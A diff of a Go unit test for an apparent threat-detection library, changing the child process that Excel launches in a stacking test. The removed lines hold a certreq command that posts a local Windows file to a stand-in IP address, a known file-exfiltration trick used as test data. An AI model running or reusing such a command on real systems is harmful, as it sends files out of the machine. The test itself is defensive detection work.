@@ -288,8 +288,9 @@ func TestOneLaunchOneDetection(t *testing.T) {
 func TestOneLaunchStacksOnce(t *testing.T) {
 	const (
 		excel   = `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`
-		certreq = `C:\Windows\System32\certreq.exe`
-		cmdline = `certreq -Post -config http://203.0.113.7/ c:\windows\win.ini`
+		// A rare child no rule knows, so only stacking can report it.
+		certreq = `C:\Program Files\Contoso\Reports\export.exe`
+		cmdline = `export.exe --sheet c:\users\bob\budget.xlsx`
 	)
 	launch := func(fn func(string, time.Duration, string, int64, string, string) *huntflow.Event, id string, at time.Duration, pid int64) *huntflow.Event {
 		e := fn(id, at, "WS01", pid, certreq, cmdline)
